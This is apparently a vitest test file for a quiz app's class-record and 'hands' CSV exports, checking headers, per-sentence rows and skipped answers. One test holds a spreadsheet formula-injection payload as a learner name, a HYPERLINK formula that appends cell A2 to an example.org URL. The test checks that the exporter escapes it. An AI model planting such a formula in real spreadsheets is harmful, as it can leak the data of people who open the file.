import { expect, test } from 'vitest';
import { answer, learner, mark, record, stop } from '#lib/quiz/class-record.test-kit.ts';
import { classCsv } from './class-csv.ts';
import { rowsOf } from './csv.test-kit.ts';
import { handsCsv } from './hands-csv.ts';

const piece = stop('xo', { kind: 'piece', form: 'A', title: 'The “street”, again' });

test('has the headers that spreadsheets rely on', () => {
	expect(classCsv(record([], []))).toBe(
		'\uFEFFroom,learner,file,stop,form,sentence_number,sentence_id,verdict,signal,marked,outcome,reason,confidence,checks,decision,handed_in,likelihood,text\r\n'
	);
});

test('has a row for each learner and sentence, with numbers as numbers', () => {
	const own = answer('', {
		likelihood: 4,
		isHandedIn: false,
		marks: [
			{
				...mark('u1', 'bare-quote'),
				confidence: 'certain',
				fetched: ['who-else', 'the-record'],
				decision: 'no-record'
			}
		]
	});
	expect(classCsv(record([piece], [{ name: 'Blue Heron', answers: { street: own } }]))).toBe(
		[
			'The fox,Blue Heron,The fox,"The “street”, again",A,1,u1,no-record,1,1,hit,bare-quote,certain,who-else the-record,no-record,0,4,Sentence 1.',
			'The fox,Blue Heron,The fox,"The “street”, again",A,2,u2,supported,0,0,correct-rejection,,,,,0,4,Sentence 2.'
		]
			.map((line) => `${line}\r\n`)
			.reduce((file, line) => file + line, `${classCsv(record([], []))}`)
	);
});

test('leaves out stops that a learner did not answer', () => {
	const rows = rowsOf(
		classCsv(
			record(
				[stop('xo'), stop('x', { id: 'lane' })],
				[learner('A', { lane: '-' }), learner('B', {})]
			)
		)
	);
	expect(rows.slice(1).map((row) => [row[1], row[10]])).toEqual([['A', 'miss']]);
});

test('a typed name is no formula', () => {
	const name = `=HYPERLINK("https://example.org?"&A2,"Click")`;
	const rows = rowsOf(classCsv(record([stop('x')], [learner(name, { street: '+' })])));
	expect(rows[1]?.[1]).toBe(`'${name}`);
});

test('hands are a file of their own, one row for each sentence that was counted', () => {
	const hands = { u2: { count: 3, of: 24 } };
	expect(handsCsv(record([stop('xo', { hands })], []))).toBe(
		'\uFEFFroom,file,stop,form,sentence_number,sentence_id,verdict,signal,hands,of,text\r\n' +
			'The fox,The fox,The street,,2,u2,supported,0,3,24,Sentence 2.\r\n'
	);
});
